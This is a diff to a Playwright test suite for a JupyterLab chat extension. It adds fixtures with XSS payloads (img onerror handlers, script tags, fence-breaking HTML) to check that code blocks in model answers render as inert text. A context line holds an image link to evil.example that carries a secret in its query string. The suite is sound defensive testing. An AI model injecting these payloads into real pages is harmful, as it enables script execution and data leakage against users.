@@ -118,14 +118,29 @@ $$E = mc^2$$
 
 ![leak](https://evil.example/x.png?q=secret) ![relative](chart.png) ![inline](data:image/png;base64,iVBORw0KGgo=)
 """
+# Finished code blocks reach the page as markdown for marked and JupyterLab's math pass
+# (_markdown.answer_bundles): what they hold must show as code text, and run nothing.
+CODE_QUESTION = "Hostile code blocks"
+HOSTILE_CODE = (
+    '<img src=x onerror="window.__pwned=1"> $x$ and $$y$$ \\(z\\) {a} ~D ~T\n'
+    "</code></pre><img src=x onerror=window.__pwned=1> ``` ```` `````\n"
+    "&lt;b&gt; <script>window.__pwned=1</script> $\n"
+)
+MATHY_CODE = "\\begin{x} a<b \\end{x} @@0@@ \\\\[w\\\\] $5\n"  # rendered in the kernel instead
+CODE_ANSWER = (
+    f"Code first:\n\n```python\n{HOSTILE_CODE}```\n\nThen a tilde fence.\n\n"
+    f"~~~ ja`va {{onclick=x}}\n{HOSTILE_CODE}~~~\n\n```tex\n{MATHY_CODE}```\n\nAnd one left open:\n\n````\n{HOSTILE_CODE}"
+)
 XSS_NOTEBOOK = "xss.ipynb"
 XSS_CELLS = [
     "%load_ext qwen_magic",
     *(f"%%qwen\n{CORPUS_QUESTION} {n}" for n in range(len(CORPUS_ANSWERS))),
     f"%%qwen\n{SPLIT_QUESTION}",
+    f"%%qwen\n{CODE_QUESTION}",
     f"%%qwen\n{PRICE_QUESTION}",
 ]
 XSS_ANSWERS = len(XSS_CELLS) - 1
+CODE_CELL = len(XSS_CELLS) - 2
 PRICE_CELL = len(XSS_CELLS) - 1
 
 
@@ -141,6 +156,8 @@ def _responder(body: dict[str, Any]) -> Reply | None:
         return Stream(text=SPLIT_ANSWER, chunk=3, delay=0.0005)
     if PRICE_QUESTION in text:
         return Stream(text=PRICE_ANSWER, chunk=5, delay=0.02)
+    if CODE_QUESTION in text:
+        return Stream(text=CODE_ANSWER, chunk=7, delay=0.002)
     return None  # echo
 
 
@@ -259,10 +276,11 @@ def test_the_answer_renders_as_markdown(ran: Run) -> None:
     code = answer.locator("pre code")
     assert "def greet(name: str) -> str:" in code.inner_text()
     # Fenced code is coloured in the kernel (Pygments classes, styled by JupyterLab in its editor colours).
-    tokens = code.evaluate("c => [...c.querySelectorAll('span[class]')].map(s => s.textContent)")
-    colours = code.evaluate("c => [...c.querySelectorAll('span.k')].map(s => getComputedStyle(s).color)")
-    assert colours and len(set(colours)) == 1 and colours[0] != code.evaluate("c => getComputedStyle(c).color")
-    assert {"def", "return", "# say hello"} <= set(tokens), tokens
+    # Fenced code is coloured by JupyterLab (it is published as markdown: _markdown.answer_bundles).
+    spans = code.evaluate("c => [...c.querySelectorAll('span[class]')].map(s => [s.textContent, getComputedStyle(s).color])")
+    colours = {text: colour for text, colour in spans}
+    assert {"def", "return", "# say hello"} <= set(colours), spans
+    assert colours["def"] == colours["return"] != code.evaluate("c => getComputedStyle(c).color")
     table = answer.locator("table")
     assert table.locator("th").all_inner_texts() == ["model", "tokens"]
     assert table.locator("tbody tr").count() == 2
@@ -489,6 +507,16 @@ def _assert_dollars_and_math(page: Any) -> None:
     assert "relative" in seen["text"] and "inline" in seen["text"]
 
 
+def _assert_code_is_text(page: Any) -> None:
+    """Each code block of the hostile code answer shows its code verbatim, as code, untypeset."""
+    area = output_area(page, CODE_CELL)
+    blocks = area.locator(".qwen-markdown pre code").all_text_contents()
+    assert len(blocks) == 4 and [MATHY_CODE.rstrip("\n") in block for block in blocks] == [0, 0, 1, 0], blocks
+    assert all(HOSTILE_CODE.rstrip("\n") in block for n, block in enumerate(blocks) if n != 2), blocks
+    assert area.locator(".qwen-markdown pre mjx-container, .qwen-markdown pre img").count() == 0
+    assert "Then a tilde fence." in area.evaluate("a => a.textContent")
+
+
 @pytest.fixture(scope="module")
 def xss_ran(lab: Lab, browser: Any, fake: FakeDashScope) -> XssRun:
     """The corpus notebook, run in a tab of its own; returns once every answer has ended."""
@@ -513,13 +541,17 @@ def test_the_xss_corpus_runs_nothing_live(xss_ran: XssRun) -> None:
     assert sum(len(answer.split("\n\n")) for answer in CORPUS_ANSWERS) >= 150
     _assert_nothing_ran(xss_ran)
     # The corpus did render (not an empty page that trivially holds nothing): much of it as inert text.
-    for cell in range(1, XSS_ANSWERS):
+    for cell in range(1, CODE_CELL):
         text = output_area(xss_ran.page, cell).evaluate("a => a.textContent")  # also when scrolled out of view
         assert len(text) > 1000 and "window.__pwned" in text, text[:200]
 
 
 def test_prices_are_dollars_and_math_renders_live(xss_ran: XssRun) -> None:
     _assert_dollars_and_math(xss_ran.page)
+
+
+def test_code_blocks_show_hostile_code_as_text_live(xss_ran: XssRun) -> None:
+    _assert_code_is_text(xss_ran.page)
 
 
 def _open_without_kernel(browser: Any, lab: Lab, path: str) -> XssRun:
@@ -573,8 +605,10 @@ def test_the_reopened_corpus_runs_nothing_and_shows_no_broken_image(xss_reopened
 
 def test_prices_are_dollars_and_math_renders_reopened(xss_reopened: XssRun) -> None:
     _assert_dollars_and_math(xss_reopened.page)
+    _assert_code_is_text(xss_reopened.page)
 
 
 def test_the_untrusted_copy_runs_nothing_and_keeps_dollars_and_math(xss_untrusted: XssRun) -> None:
     _assert_nothing_ran(xss_untrusted)
     _assert_dollars_and_math(xss_untrusted.page)
+    _assert_code_is_text(xss_untrusted.page)
